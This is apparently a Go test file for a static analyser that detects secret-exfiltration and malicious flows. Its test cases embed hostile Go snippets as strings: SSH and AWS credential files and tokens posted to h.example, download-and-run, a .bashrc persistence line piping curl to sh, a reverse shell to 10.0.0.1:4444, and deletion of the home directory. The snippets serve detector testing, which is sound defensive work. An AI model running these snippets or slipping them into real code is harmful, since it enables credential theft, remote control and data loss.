package golang_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/metahub-ai/attest/checks/analysis"
	"github.com/metahub-ai/attest/checks/facts"
	"github.com/metahub-ai/attest/checks/facts/flow"
	"github.com/metahub-ai/attest/checks/facts/golang"
)

// flowsOf lists a set's flows as "label->sink" and, with the via the
// sink's arguments record, "label->sink:via".
func flowsOf(s *facts.Set) []string {
	var out []string
	for _, f := range s.Flows {
		k := string(f.From.Label) + "->" + string(f.To.Kind)
		out = append(out, k)
		for _, a := range f.To.Args {
			if v, ok := strings.CutPrefix(a, "via:"); ok {
				out = append(out, k+":"+v)
			}
		}
	}
	return out
}

func sinksOf(s *facts.Set) []string {
	var out []string
	for _, x := range s.Sinks {
		out = append(out, string(x.Kind)+" "+x.Dest)
	}
	return out
}

func dump(s *facts.Set) string {
	var b strings.Builder
	for _, x := range s.Sources {
		fmt.Fprintf(&b, "  source %s %q :%d\n", x.Label, x.What, x.At.Line)
	}
	for _, x := range s.Sinks {
		fmt.Fprintf(&b, "  sink %s %s -> %q :%d\n", x.Kind, x.API, x.Dest, x.At.Line)
	}
	for _, x := range s.Flows {
		fmt.Fprintf(&b, "  flow %s -> %s %s %v\n", x.From.Label, x.To.Kind, x.To.API, x.To.Args)
	}
	for _, x := range s.Unresolved {
		fmt.Fprintf(&b, "  unresolved :%d %s\n", x.At.Line, x.What)
	}
	return b.String()
}

// The lowering's shapes, each checked through the engine: the flows and
// sinks a program must give, and those it must not.
func TestLowerShapes(t *testing.T) {
	cases := []struct {
		name      string
		src       string
		want, not []string // flows, "label->kind" or "label->kind:via"
		sinks     []string // "kind dest" a sink must have
		effects   []string
	}{
		{
			name: "key file read and posted",
			src: `package main
import ("bytes"; "net/http"; "os")
func main() {
	b, err := os.ReadFile("/home/u/.ssh/id_rsa")
	if err != nil { return }
	http.Post("https://h.example/k", "application/octet-stream", bytes.NewReader(b))
}`,
			want: []string{"credential-store->net-send:data"},
		},
		{
			name: "a config file read and posted is no secret",
			src: `package main
import ("bytes"; "net/http"; "os")
func main() { b, _ := os.ReadFile("config.json"); http.Post("https://h.example/k", "x", bytes.NewReader(b)) }`,
			not: []string{"credential-store->net-send"},
		},
		{
			name: "an API key in the Authorization header of a request to its own API",
			src: `package main
import ("net/http"; "os")
func main() {
	req, _ := http.NewRequest("GET", "https://api.openai.com/v1/models", nil)
	req.Header.Set("Authorization", "Bearer "+os.Getenv("OPENAI_API_KEY"))
	resp, err := http.DefaultClient.Do(req)
	if err == nil { defer resp.Body.Close() }
}`,
			want:  []string{"secret-env->net-send:credential"},
			not:   []string{"secret-env->net-send:data", "secret-env->net-send:dest"},
			sinks: []string{"net-send https://api.openai.com/v1/models"},
		},
		{
			name: "the same key in the request's body is data",
			src: `package main
import ("net/http"; "os"; "strings")
func main() {
	req, _ := http.NewRequest("POST", "https://h.example/c", strings.NewReader(os.Getenv("OPENAI_API_KEY")))
	(&http.Client{}).Do(req)
}`,
			want: []string{"secret-env->net-send:data"},
			not:  []string{"secret-env->net-send:credential"},
		},
		{
			name: "evasion: the key's path built in pieces",
			src: `package main
import ("bytes"; "net/http"; "os"; "path/filepath")
func main() {
	home, _ := os.UserHomeDir()
	b, _ := os.ReadFile(filepath.Join(home, ".ss"+"h", "id_rsa"))
	http.Post("https://h.example", "x", bytes.NewReader(b))
}`,
			want: []string{"credential-store->net-send"},
		},
		{
			name: "evasion: an explicit import name and a helper of the artifact returning two values",
			src: `package main
import (web "net/http"; "os"; "strings")
func load(name string) (string, error) { return os.Getenv(name), nil }
func main() {
	tok, err := load("GITHUB_TOKEN")
	if err != nil { return }
	web.Post("https://h.example", "x", strings.NewReader(tok))
}`,
			want: []string{"secret-env->net-send"},
		},
		{
			name: "fmt.Sprintf builds the URL the secret leaves in",
			src: `package main
import ("fmt"; "net/http"; "os")
func main() { http.Get(fmt.Sprintf("https://%s/c?k=%s", "h.example", os.Getenv("AWS_SECRET_ACCESS_KEY"))) }`,
			want:  []string{"secret-env->net-send:dest"},
			sinks: []string{"net-send https://h.example/c?k=?"},
		},
		{
			name: "download and run",
			src: `package main
import ("io"; "net/http"; "os/exec")
func main() {
	r, _ := http.Get("https://h.example/x.sh")
	defer r.Body.Close()
	b, _ := io.ReadAll(r.Body)
	exec.Command("sh", "-c", string(b)).Run()
}`,
			want: []string{"remote-content->exec-shell"},
		},
		{
			name: "a method of the artifact's type, a goroutine, a channel and a deferred call",
			src: `package main
import ("bytes"; "net/http"; "os"; "path/filepath")
type Collector struct{ dest string; items [][]byte }
func (c *Collector) Add(b []byte) { c.items = append(c.items, b) }
func (c *Collector) Flush() {
	for _, it := range c.items { http.Post(c.dest, "x", bytes.NewReader(it)) }
}
var targets = []string{".ssh/id_rsa", ".aws/credentials"}
func gather(home string, ch chan []byte) {
	for _, t := range targets {
		if b, err := os.ReadFile(filepath.Join(home, t)); err == nil { ch <- b }
	}
}
func main() {
	home, _ := os.UserHomeDir()
	c := &Collector{dest: "https://h.example/u"}
	ch := make(chan []byte)
	go gather(home, ch)
	for b := range ch { c.Add(b) }
	defer c.Flush()
}`,
			want:  []string{"credential-store->net-send"},
			sinks: []string{"net-send https://h.example/u"},
		},
		{
			name: "a struct literal with a field stored later, marshalled and sent from init",
			src: `package main
import ("bytes"; "encoding/json"; "net/http"; "os")
type Report struct { Host string; Token string }
func init() {
	r := Report{Host: "x"}
	r.Token = os.Getenv("NPM_TOKEN")
	b, _ := json.Marshal(r)
	http.Post("https://h.example/r", "application/json", bytes.NewReader(b))
}`,
			want: []string{"secret-env->net-send"},
		},
		{
			name: "a closure run in a select case",
			src: `package main
import ("net/http"; "os"; "strings"; "time")
func main() {
	send := func(s string) { http.Post("https://h.example", "x", strings.NewReader(s)) }
	select {
	case <-time.After(time.Second):
		send(os.Getenv("SLACK_BOT_TOKEN"))
	}
}`,
			want: []string{"secret-env->net-send"},
		},
		{
			name: "a shell rc file appended to through its handle",
			src: `package main
import ("fmt"; "os")
func main() {
	f, _ := os.OpenFile(os.ExpandEnv("$HOME/.bashrc"), os.O_APPEND|os.O_WRONLY, 0o644)
	defer f.Close()
	fmt.Fprintln(f, "curl -s https://h.example/x | sh")
}`,
			sinks: []string{"persist $HOME/.bashrc"},
		},
		{
			name: "a reverse shell: a connection bound to a shell's standard streams",
			src: `package main
import ("net"; "os/exec")
func main() {
	c, _ := net.Dial("tcp", "10.0.0.1:4444")
	cmd := exec.Command("/bin/sh", "-i")
	cmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c
	cmd.Run()
}`,
			want:    []string{"socket->fd-redirect"},
			effects: []string{"remote-shell"},
		},
		{
			name: "the benign twin: a command's output to the terminal",
			src: `package main
import ("os"; "os/exec")
func main() { cmd := exec.Command("/bin/sh", "-c", "make"); cmd.Stdout = os.Stdout; cmd.Run() }`,
			not: []string{"socket->fd-redirect"},
		},
		{
			name: "commands read from a connection are run",
			src: `package main
import ("bufio"; "net"; "os/exec")
func main() {
	c, _ := net.Dial("tcp", "10.0.0.1:4444")
	r := bufio.NewReader(c)
	for {
		line, _ := r.ReadString('\n')
		out, _ := exec.Command("sh", "-c", line).CombinedOutput()
		c.Write(out)
	}
}`,
			want: []string{"socket->exec-shell"},
		},
		{
			name: "a snippet without a package clause (a document's code block)",
			src: `home, _ := os.UserHomeDir()
b, _ := os.ReadFile(home + "/.aws/credentials")
http.Post("https://h.example", "x", bytes.NewReader(b))`,
			want: []string{"credential-store->net-send"},
		},
		{
			name: "a file that does not parse is lowered as far as it goes",
			src: `package main
import "os"
func main() { os.RemoveAll(os.Getenv("HOME")) }
func broken( {`,
			sinks: []string{"delete ~"},
		},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			set := analysis.Code("go", "main.go", c.src, 0, 0)
			got := flowsOf(set)
			for _, w := range c.want {
				if !slices.Contains(got, w) {
					t.Errorf("no flow %s:\n%s", w, dump(set))
				}
			}
			for _, n := range c.not {
				if slices.Contains(got, n) {
					t.Errorf("a flow %s:\n%s", n, dump(set))
				}
			}
			sinks := sinksOf(set)
			for _, w := range c.sinks {
				if !slices.Contains(sinks, w) {
					t.Errorf("no sink %s:\n%s", w, dump(set))
				}
			}
			for _, w := range c.effects {
				if !slices.ContainsFunc(set.Effects, func(x facts.Effect) bool { return string(x.Kind) == w }) {
					t.Errorf("no effect %s:\n%s", w, dump(set))
				}
			}
		})
	}
}

// What does not parse is recorded, and lines keep their place in a
// document (lineBase).
func TestLowerRecordsAndPlaces(t *testing.T) {
	u := golang.Lower("main.go", "package main\nfunc broken( {\n", 0)
	if len(u.Unresolved) == 0 {
		t.Error("a syntax error left no note")
	}
	set := analysis.Code("go", "README.md", "package main\nimport \"os\"\nfunc main() {\n\tos.RemoveAll(\"/\")\n}\n", 10, facts.InDoc)
	found := false
	for _, s := range set.Sinks {
		if s.Kind == facts.Delete {
			found = true
			if s.At.Line != 14 {
				t.Errorf("the sink is at line %d, want 14 (line 4 of a block after line 10)", s.At.Line)
			}
			if !s.Ctx.Has(facts.InDoc) {
				t.Error("the sink lost the block's context")
			}
		}
	}
	if !found {
		t.Errorf("no delete sink:\n%s", dump(set))
	}
	big := "package main\n" + strings.Repeat("// x\n", golang.MaxBytes/5+1)
	if u := golang.Lower("big.go", big, 0); len(u.Unresolved) == 0 {
		t.Error("source past MaxBytes was cut without a note")
	}
}

// Nesting past the depth limit is cut and recorded, not followed.
func TestLowerDepth(t *testing.T) {
	deep := "package main\nvar x = " + strings.Repeat("(", 5000) + "1" + strings.Repeat(")", 5000) + "\n"
	u := golang.Lower("deep.go", deep, 0)
	if !slices.ContainsFunc(u.Unresolved, func(n flow.Note) bool { return strings.Contains(n.What, "deeply") }) {
		t.Errorf("no depth note: %v", u.Unresolved)
	}
	analysis.Code("go", "deep.go", deep, 0, 0)
}

func FuzzLower(f *testing.F) {
	for _, s := range []string{
		"package main\nfunc main() {}",
		"package main\nimport (\"net/http\"; \"os\")\nfunc main() { http.Post(\"https://h.example\", \"x\", os.Stdin) }",
		"b, _ := os.ReadFile(\"/etc/shadow\")",
		"package main\ntype T struct{ A }\nfunc (t *T) M() { go func() { defer t.M() }() }",
		"package p; var _ = map[string]any{\"a\": []int{1}, `b`: struct{}{}}",
		"package main\nfunc main() { for { select { case x := <-c: _ = x } } }",
		"package main\nfunc f[T any](x T) T { return x }\nvar _ = f[int](1)",
		"package",
		"{{{{((((",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		u := golang.Lower("f.go", src, 0)
		if u == nil || u.Top == nil || u.Lang != "go" {
			t.Fatal("no unit")
		}
		if len(u.Unresolved) > 64+8 {
			t.Fatalf("%d notes: the notes are not bounded", len(u.Unresolved))
		}
		analysis.Code("go", "f.go", src, 0, 0)
	})
}

// benchSrc is a file of many small functions: reads, requests, commands.
func benchSrc(n int) string {
	var b strings.Builder
	b.WriteString("package main\nimport (\"bytes\"; \"fmt\"; \"net/http\"; \"os\"; \"os/exec\"; \"path/filepath\")\n")
	for i := range n {
		fmt.Fprintf(&b, `type T%[1]d struct{ url string }
func (t *T%[1]d) send(b []byte) error {
	_, err := http.Post(t.url, "x", bytes.NewReader(b))
	return err
}
func f%[1]d(dir string) {
	p := filepath.Join(dir, fmt.Sprintf("f%%d.txt", %[1]d))
	b, err := os.ReadFile(p)
	if err != nil { return }
	t := &T%[1]d{url: "https://api.example.com/%[1]d"}
	for _, c := range []string{"a", "b"} { exec.Command("echo", c).Run() }
	t.send(b)
}
`, i)
	}
	return b.String()
}

func BenchmarkLower(b *testing.B) {
	src := benchSrc(100)
	b.SetBytes(int64(len(src)))
	for b.Loop() {
		golang.Lower("bench.go", src, 0)
	}
}

func BenchmarkCode(b *testing.B) {
	src := benchSrc(100)
	b.SetBytes(int64(len(src)))
	for b.Loop() {
		analysis.Code("go", "bench.go", src, 0, 0)
	}
}
